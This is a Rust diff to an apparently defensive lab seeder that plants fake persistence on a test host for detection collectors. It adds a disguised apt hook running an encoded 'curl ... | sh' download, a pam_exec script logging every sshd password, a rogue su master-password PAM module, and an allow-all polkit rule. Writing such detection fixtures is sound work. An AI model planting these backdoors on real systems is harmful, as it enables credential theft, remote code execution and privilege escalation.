@@ -3,17 +3,20 @@
 //! leaves them (names borrowed from real packages, package-looking paths, encoded payloads).
 //!
 //! One function per family ([`accounts`], [`boot_hooks`], [`login_hooks`], [`loader`],
-//! [`path_hijack`], [`sessions`]; the network family is a line of the host's init script,
-//! [`NETWORK_SETUP`]), so that new families (package-manager hooks, PAM, polkit...) are one
-//! more function called from [`plant`].
+//! [`path_hijack`], [`sessions`], [`apt_hook`], [`pam_hooks`], [`polkit_rule`]; the network
+//! family is a line of the host's init script, [`NETWORK_SETUP`]), so that a new family is
+//! one more function called from [`plant`].
 //!
 //! Everything planted is inert in the lab, and the host stays usable for the tests:
-//! - nothing runs the hooks (the host has no init system, no udev, and its sshd runs with
-//!   `UsePAM no` and `PrintMotd no`); root's `.bashrc` line only runs in interactive shells,
+//! - nothing runs the hooks (the host has no init system, no udev, no polkitd, nothing runs
+//!   apt, and its sshd runs with `UsePAM no` and `PrintMotd no`, so the `pam_exec` line
+//!   planted in `/etc/pam.d/sshd` is never read; the unowned module is loaded only by
+//!   `/etc/pam.d/su`, which no lab login or `sudo` uses); root's `.bashrc` line only runs in interactive shells,
 //!   the `profile.d` script only in login shells, and every address they name is in a
 //!   documentation range that no lab namespace has a route to;
 //! - `/etc/ld.so.preload` names a copy of glibc's `libdl.so.2` (an empty compatibility stub
 //!   since glibc 2.34), so every program of the host, sshd included, still starts normally;
+//!   the PAM module named like systemd-homed's is another copy of it;
 //! - the sudoers drop-in is valid sudoers syntax, mode 0440 (the test checks `visudo -c`);
 //! - no password hash planted matches any password (they are not real crypt output).
 //!
@@ -71,6 +74,22 @@ pub const PROMISC_IFACE: &str = "eth0";
 /// Init-script lines of the network family, run in the host's own network namespace after
 /// its address is set: the sniffer's promiscuous interface.
 pub const NETWORK_SETUP: &str = "ip link set eth0 promisc on\n";
+/// The apt configuration named like update-notifier's stamp file: besides the stamp, it
+/// runs a base64-encoded download before every index update.
+pub const APT_HOOK: &str = "/etc/apt/apt.conf.d/15update-stamp";
+/// The line of [`APT_HOOK`] with the encoded download.
+pub const APT_HOOK_LINE: usize = 2;
+/// The PAM service file given a `pam_exec` line that hands every typed password to a script.
+pub const PAM_EXEC_SERVICE: &str = "/etc/pam.d/sshd";
+/// The script it runs, in openssh's own library directory.
+pub const PAM_EXEC_SCRIPT: &str = "/usr/lib/openssh/sshd-auth-helper";
+/// The PAM service file given a `sufficient` line loading the unowned module (a master
+/// password for `su`).
+pub const PAM_MODULE_SERVICE: &str = "/etc/pam.d/su";
+/// The unowned PAM module's file name (systemd-homed's, which this machine does not have).
+pub const PAM_MODULE_NAME: &str = "pam_systemd_home.so";
+/// The polkit rule, named like a PackageKit one, letting [`SERVICE_ACCOUNT`] do anything.
+pub const POLKIT_RULE: &str = "/etc/polkit-1/rules.d/49-org.freedesktop.packagekit.rules";
 /// Where the lab keeps the host's `/run/utmp` until its init script has mounted `/run` (a
 /// tmpfs that hides whatever the overlay has there), relative to the host's lab directory.
 pub const UTMP_STAGED: &str = "run-utmp";
@@ -94,6 +113,9 @@ pub(super) fn plant(s: &Seed, hdir: &Path) -> std::io::Result<()> {
     login_hooks(s)?;
     loader(s)?;
     path_hijack(s)?;
+    apt_hook(s)?;
+    pam_hooks(s)?;
+    polkit_rule(s)?;
     sessions(s, hdir)
 }
 
@@ -321,6 +343,115 @@ fn path_hijack(s: &Seed) -> std::io::Result<()> {
         HIJACK,
         b"#!/bin/sh\n/usr/bin/ps \"$@\" | grep -v -e kthreadd.x -e hwclock -e '/dev/shm/'\n",
         0o755,
+        0,
+        0,
+    )
+}
+
+/// Package-manager hook: an apt configuration file named like update-notifier's
+/// `15update-stamp` that, besides touching the stamp as the real one does, decodes and runs a
+/// download before every `apt update` (as root).
+fn apt_hook(s: &Seed) -> std::io::Result<()> {
+    // `curl -fsSL http://198.51.100.47/u | sh` (C2_ADDR), base64-encoded.
+    let payload = "Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC40Ny91IHwgc2g=";
+    s.file(
+        APT_HOOK,
+        format!(
+            "// Record the time of the last successful update\n\
+             APT::Update::Pre-Invoke {{ \"echo {payload} | base64 -d | sh >/dev/null 2>&1 || true\"; }};\n\
+             APT::Update::Post-Invoke-Success {{ \"touch /var/lib/apt/periodic/update-success-stamp 2>/dev/null || true\"; }};\n"
+        )
+        .as_bytes(),
+        0o644,
+        0,
+        0,
+    )
+}
+
+/// The directory holding glibc's libraries and its `security` directory of PAM modules
+/// (`/usr/lib/<triplet>`: on a merged-/usr machine `/lib` is a symlink the seed cannot plant
+/// through).
+fn pam_module_planted() -> String {
+    let dir = libdl().map_or("/usr/lib/x86_64-linux-gnu", |(d, _)| d);
+    format!("{dir}/security/{PAM_MODULE_NAME}")
+}
+
+/// The path under which the `hooks` collector finds the planted module (it looks in
+/// `/lib/<triplet>/security` before `/usr/lib/<triplet>/security`, and on a merged-/usr
+/// machine the module is in both).
+pub fn pam_module_path() -> String {
+    let planted = pam_module_planted();
+    match planted.strip_prefix("/usr/lib/") {
+        Some(rest)
+            if rest.contains("-linux-gnu/")
+                && Path::new("/lib")
+                    .join(rest)
+                    .parent()
+                    .is_some_and(Path::is_dir) =>
+        {
+            format!("/lib/{rest}")
+        }
+        _ => planted,
+    }
+}
+
+/// Authentication hooks: a `pam_exec` line added to sshd's PAM service, handing every typed
+/// password (`expose_authtok`) to a script in openssh's library directory that appends it to
+/// a file named like a debconf backup; and an unowned module named like systemd-homed's (a
+/// copy of a harmless real library) made `sufficient` for `su`, the classic master-password
+/// backdoor.
+fn pam_hooks(s: &Seed) -> std::io::Result<()> {
+    let sshd = planted_or_real(s, PAM_EXEC_SERVICE);
+    let line =
+        format!("auth       optional     pam_exec.so quiet expose_authtok {PAM_EXEC_SCRIPT}\n");
+    let sshd = match sshd.find("@include common-auth\n") {
+        Some(i) => {
+            let end = i + "@include common-auth\n".len();
+            format!("{}{line}{}", &sshd[..end], &sshd[end..])
+        }
+        None => format!("{line}{sshd}"),
+    };
+    s.file(PAM_EXEC_SERVICE, sshd.as_bytes(), 0o644, 0, 0)?;
+    s.file(
+        PAM_EXEC_SCRIPT,
+        b"#!/bin/sh\n# sshd authentication helper\nread -r tok\n\
+          printf '%s %s %s %s\\n' \"$(date +%s)\" \"$PAM_RHOST\" \"$PAM_USER\" \"$tok\" >>/var/cache/debconf/templates.dat-old\n\
+          exit 0\n",
+        0o755,
+        0,
+        0,
+    )?;
+
+    if let Some((_, data)) = libdl() {
+        s.file(&pam_module_planted(), &data, 0o644, 0, 0)?;
+    }
+    let su = planted_or_real(s, PAM_MODULE_SERVICE);
+    let line = format!("auth       sufficient {PAM_MODULE_NAME}\n");
+    let su = match su.find("auth       sufficient pam_rootok.so\n") {
+        Some(i) => {
+            let end = i + "auth       sufficient pam_rootok.so\n".len();
+            format!("{}{line}{}", &su[..end], &su[end..])
+        }
+        None => format!("{line}{su}"),
+    };
+    s.file(PAM_MODULE_SERVICE, su.as_bytes(), 0o644, 0, 0)
+}
+
+/// Polkit: a rule named like a PackageKit one returning `polkit.Result.YES` for every action
+/// asked by [`SERVICE_ACCOUNT`] (start units, mount, pkexec as root without a password).
+fn polkit_rule(s: &Seed) -> std::io::Result<()> {
+    s.file(
+        POLKIT_RULE,
+        format!(
+            "// Allow the update service to refresh the package cache without a prompt\n\
+             polkit.addRule(function(action, subject) {{\n\
+             \x20   if (subject.user == \"{SERVICE_ACCOUNT}\") {{\n\
+             \x20       return polkit.Result.YES;\n\
+             \x20   }}\n\
+             }});\n"
+        )
+        .as_bytes(),
+        0o644,
         0,
         0,
     )
